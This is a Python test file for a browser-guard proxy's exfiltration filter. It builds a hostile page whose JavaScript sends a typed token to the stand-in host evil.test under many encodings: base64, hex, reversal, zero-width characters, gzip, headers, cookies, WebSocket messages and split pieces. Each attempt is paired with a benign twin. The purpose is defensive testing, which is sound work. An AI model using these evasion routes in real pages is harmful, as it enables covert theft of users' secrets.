"""The exfiltration filter against a page that knows it: a typed secret leaving under an
encoding, in pieces, or in a place other than the query — each tried in real Chromium
through the real proxy next to a benign twin (the same route with an ordinary value), which
must reach the other host. Plus the same encodings at the scanner, headers and cookies
included, with their benign twins."""

from __future__ import annotations

import asyncio
import base64
import contextlib
from collections.abc import Iterator
from urllib.parse import quote

import pytest
from mitmproxy.test import tutils

from pagewarden import ActionBlocked, Guard, Secret, launch
from pagewarden.guard import GuardEvent
from pagewarden.proxy._exfil import ExfiltrationFilter, _merged, _outgoing, own_site_leaks, scan
from pagewarden.testing import LocalSite
from tests.proxy.conftest import policies
from tests.proxy.wsserver import WebSocketServer

pytestmark = pytest.mark.browser

SECRET = "tok-4711-Zebra-Quartz-9"
BENIGN = "hello-world-pancakes-42"

#: route name -> JS sending the value `v` to evil.test under `/${tag}/<name>`
ROUTES = {
    "urlenc": "img(`/${tag}/urlenc?q=${encodeURIComponent(v)}`)",
    "double": "img(`/${tag}/double?q=${encodeURIComponent(encodeURIComponent(v))}`)",
    "b64": "img(`/${tag}/b64?q=${btoa(v)}`)",
    "b64off1": "img(`/${tag}/b64off1?q=${encodeURIComponent(btoa('u=' + v + ';'))}`)",
    "b64off2": "img(`/${tag}/b64off2?q=${encodeURIComponent(btoa('id:' + v))}`)",
    "b64url": "img(`/${tag}/b64url?q=${btoa('#' + v).replace(/\\+/g, '-').replace(/\\//g, '_')"
    ".replace(/=+$/, '')}`)",
    "hex": "img(`/${tag}/hex?q=${hex(v)}`)",
    "upper": "img(`/${tag}/upper?q=${v.toUpperCase()}`)",
    "lower": "img(`/${tag}/lower?q=${v.toLowerCase()}`)",
    "params": "img(`/${tag}/params?a=${v.slice(0, 8)}&t=${Date.now()}&b=${v.slice(8, 15)}&c=${v.slice(15)}`)",
    "header": "fetch(`${base}/${tag}/header`, {mode: 'no-cors', headers: {'Accept': 'x/' + v}})",
    "json": "fetch(`${base}/${tag}/json`, "
    "{method: 'POST', mode: 'no-cors', body: JSON.stringify({d: {x: [v]}})})",
    "multipart": "{const f = new FormData(); f.append('d', v); "
    "fetch(`${base}/${tag}/multipart`, {method: 'POST', mode: 'no-cors', body: f});}",
    "beacon": "navigator.sendBeacon(`${base}/${tag}/beacon`, hex(v.toUpperCase()))",
    # decoded views (issue 24): entities, reversal, separators, escapes, compression, nesting
    "entities": "fetch(`${base}/${tag}/entities`, {method: 'POST', mode: 'no-cors', "
    "body: Array.from(v, c => `&#${c.charCodeAt(0)};`).join('')})",
    "reversed": "img(`/${tag}/reversed?q=${[...v].reverse().join('')}`)",
    "dashed": "img(`/${tag}/dashed?q=${[...v].join('-')}`)",
    "zerowidth": "fetch(`${base}/${tag}/zerowidth`, "
    "{method: 'POST', mode: 'no-cors', body: [...v].join('\u200b')})",
    "escaped": "img(`/${tag}/escaped?q=${encodeURIComponent(Array.from(v, c => "
    "'\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join(''))}`)",
    "gzip": "new Response(new Blob([JSON.stringify({t: v})]).stream().pipeThrough("
    "new CompressionStream('gzip'))).arrayBuffer().then(b => "
    "fetch(`${base}/${tag}/gzip`, {method: 'POST', mode: 'no-cors', body: b}))",
    "nested": "img(`/${tag}/nested?q=${btoa(hex([...v].reverse().join('')))}`)",
    "blob": "fetch(`${base}/${tag}/blob`, {method: 'POST', mode: 'no-cors', "
    "body: btoa(JSON.stringify({session: 'x'.repeat(41), value: v, n: 7}))})",
}
#: several requests that carry the value in pieces: the one that completes it is refused
SPLIT = (
    "img(`/${tag}/split1?c=${v.slice(0, 9)}`); "
    "setTimeout(() => img(`/${tag}/split2?c=${btoa(v.slice(9, 16))}`), 150); "
    "setTimeout(() => img(`/${tag}/split3?c=${v.slice(16)}`), 300);"
)


def _page() -> str:
    calls = "\n".join(f"    {js};" for js in ROUTES.values())
    return f"""<!doctype html><html><head><title>Leaks</title></head><body>
<label for="token">Access token</label><input id="token" type="text">
<button id="send">Save</button>
<script>
  const base = "http://evil.test";
  const img = (path) => {{ new Image().src = base + path; }};
  const hex = (s) => Array.from(new TextEncoder().encode(s), b => b.toString(16).padStart(2, "0")).join("");
  const ws = new WebSocket("ws://ws.test/");
  window.wsOpen = new Promise(resolve => ws.onopen = () => resolve(true));
  function send(v, tag) {{
{calls}
    {SPLIT}
    ws.send(JSON.stringify({{tag, d: btoa("k=" + v)}}));
    ws.send(tag + ":" + v.slice(0, 11));
    setTimeout(() => ws.send(tag + "2:" + v.slice(11)), 100);
    setTimeout(() => ws.send(tag + ":done"), 250);
  }}
  document.getElementById("send").addEventListener("click", () => {{
    send(document.getElementById("token").value, "a");
    setTimeout(() => send({BENIGN!r}, "b"), 600);
  }});
</script></body></html>"""


@pytest.fixture
def ws_server() -> Iterator[WebSocketServer]:
    server = WebSocketServer()
    yield server
    server.close()


async def test_encoded_and_split_leaks_stopped_benign_twins_pass(
    netsite: LocalSite, ws_server: WebSocketServer
) -> None:
    from pagewarden.testing import Response

    netsite.route("site.test", "/leaks.html", lambda r: Response(_page()))
    guard = Guard(secrets=[Secret(SECRET, allow_domains=["site.test"])])
    events: list[GuardEvent] = []
    guard.subscribe(events.append)
    host_map = {"ws.test": ws_server.port, "*.test": netsite.port}
    async with launch(guard, proxy=True, host_map=host_map) as page:
        await page.goto("http://site.test/leaks.html")
        await page.unwrap().evaluate("window.wsOpen")
        await page.fill("#token", SECRET)
        # the click runs; the page's leaks refused while it runs are raised with it (exfiltration
        # reaches the agent), or at its next call
        with contextlib.suppress(ActionBlocked):
            await page.click("#send")
        expected = {f"/b/{name}" for name in [*ROUTES, "split1", "split2", "split3"]}
        for _ in range(300):  # up to 30 s on a loaded machine; usually ~1 s
            seen = {r.path for r in netsite.requests_to("evil.test")}
            if expected <= seen and "b:done" in ws_server.messages:
                break
            await asyncio.sleep(0.1)
    reached = {r.path: r for r in netsite.requests_to("evil.test")}
    # every benign twin reached evil.test: no false block
    assert expected <= set(reached), sorted(expected - set(reached))
    # no attack route did, except the first pieces of the split (they hold too little to tell)
    attacks = {p for p in reached if p.startswith("/a/")}
    assert attacks == {"/a/split1", "/a/split2"}, sorted(attacks)
    for path, request in reached.items():
        raw = (request.path + str(request.query) + request.body.decode("utf-8", "replace")).lower()
        assert "zebra-quartz" not in raw and "quartz-9" not in raw
        assert path == "/a/split1" or "4711" not in raw
    messages = ws_server.messages
    assert "b:" + BENIGN[:11] in messages and "b2:" + BENIGN[11:] in messages and "b:done" in messages
    assert "a:" + SECRET[:11] in messages  # the first piece: too little to tell
    assert not [m for m in messages if m.startswith("a2:") or base64.b64encode(b"k=tok").decode()[:6] in m]
    refused = {e.data["url"].split("?")[0] for e in events if e.kind == "network"}
    assert {f"http://evil.test/a/{name}" for name in [*ROUTES, "split3"]} <= refused


# -- the scanner, route by route ------------------------------------------------------------

def _leaks(guard: Guard, path: str, body: bytes = b"", headers: dict[str, str] | None = None) -> list[str]:
    request = tutils.treq(host="evil.test", path=path.encode(), content=body)
    for key, value in (headers or {}).items():
        request.headers[key] = value
    texts, cookie_texts, pieces = _outgoing(request)
    own = own_site_leaks(cookie_texts, request, guard)
    leaks = _merged(own, scan(texts, "evil.test", guard=guard, pieces=pieces))
    return [leak.what for leak in leaks]


@pytest.mark.parametrize(
    "route",
    [
        lambda v: ("/c?q=" + quote(quote(v, safe=""), safe=""), b"", None),  # double-encoded
        lambda v: ("/c?q=" + "".join(f"%{b:02X}" for b in v.encode()), b"", None),  # every byte
        lambda v: ("/c?q=" + v.encode().hex().upper(), b"", None),  # hex, upper case
        lambda v: ("/c?q=" + base64.b64encode(b"xy" + v.upper().encode()).decode(), b"", None),
        lambda v: ("/c?q=" + base64.urlsafe_b64encode(b"?" + v.encode()).decode().rstrip("="), b"", None),
        lambda v: ("/c", b"", {"Cookie": f"sid=1; d={quote(v)}"}),  # cookie
        lambda v: ("/c", b"", {"X-Trace": v.lower()}),  # a page-set header, lower case
        lambda v: ("/c?x=" + v[12:] + "&y=1&z=" + v[:12], b"", None),  # pieces out of order
        lambda v: ("/c", f'{{"a": "{v[:10]}", "n": 3, "b": "{v[10:]}"}}'.encode(), None),  # JSON pieces
        lambda v: ("/c", b"d=" + base64.b64encode(v[:9].encode()) + b"&e=" + v[9:].encode().hex().encode(),
                   None),  # form pieces, base64 and hex
    ],
)
def test_scanner_finds_the_value_and_passes_its_benign_twin(route) -> None:
    guard = Guard(secrets=[Secret(SECRET, allow_domains=["site.test"])])
    path, body, headers = route(SECRET)
    assert _leaks(guard, path, body, headers) == ["the registered secret 'secret'"]
    path, body, headers = route(BENIGN)
    assert _leaks(guard, path, body, headers) == []


def test_pieces_across_requests_in_a_short_window() -> None:
    guard = Guard(secrets=[Secret(SECRET, allow_domains=["site.test"])])
    found: list[str] = []
    addon = ExfiltrationFilter(lambda flow: guard, lambda flow, refusal: found.append(refusal.reason))

    def send(path: str, host: str = "evil.test"):
        from mitmproxy.test import tflow

        flow = tflow.tflow(req=tutils.treq(host=host, path=path.encode()))
        addon.request(flow)
        return flow.response

    assert send("/a?c=tok-4711") is None
    assert send("/a?c=-Zebra-Q", host="other.test") is None  # another host: its own window
    assert send("/a?c=noise&d=12345") is None
    assert send("/a?c=-Zebra-Q") is None
    response = send("/a?c=uartz-9")  # completes the value
    assert response is not None and response.status_code == 403 and len(found) == 1
    assert send("/a?c=uartz-9") is not None  # the window still holds the rest
    # benign pieces never assemble into it
    guard2 = Guard(secrets=[Secret(SECRET, allow_domains=["site.test"])])
    addon2 = ExfiltrationFilter(lambda flow: guard2, lambda flow, refusal: found.append(refusal.reason))
    from mitmproxy.test import tflow

    for piece in ("tok", "4711", "zebra", "quartz", "hello", "9"):
        flow = tflow.tflow(req=tutils.treq(host="evil.test", path=f"/b?q={piece}".encode()))
        addon2.request(flow)
        assert flow.response is None, piece


def test_protected_values_and_typed_passwords_share_the_rules_definitions() -> None:
    rule = {"sensitive_data": {"values": ["ACCT-99812-XK"], "allow_domains": ["bank.test"]}}
    guard = Guard(policies=policies(rule))
    guard.session.typed_passwords["Sup3r-Secret!"] = "site.test"
    hexed = b"ACCT-99812-XK".hex()
    assert _leaks(guard, "/c?q=" + hexed) == ["the protected value AC…"]
    typed = base64.b64encode(b"pw=Sup3r-Secret!").decode()
    assert _leaks(guard, "/c?q=" + typed) == ["a password typed earlier"]
    request = tutils.treq(host="bank.test", path=("/c?q=" + hexed).encode())
    texts, _, pieces = _outgoing(request)
    assert scan(texts, "bank.test", guard=guard, pieces=pieces) == []  # the rule's own allow-list
